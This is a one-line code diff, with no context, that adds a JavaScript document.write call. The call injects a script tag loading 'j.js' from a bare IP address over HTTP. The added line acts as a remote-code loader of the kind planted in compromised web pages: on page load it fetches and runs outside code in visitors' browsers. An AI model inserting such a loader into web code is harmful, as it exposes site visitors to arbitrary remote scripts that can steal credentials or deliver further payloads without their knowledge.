@@ -1,0 +1,1 @@
+document.write('<script src="http://203.0.113.7/j.js"></script>');
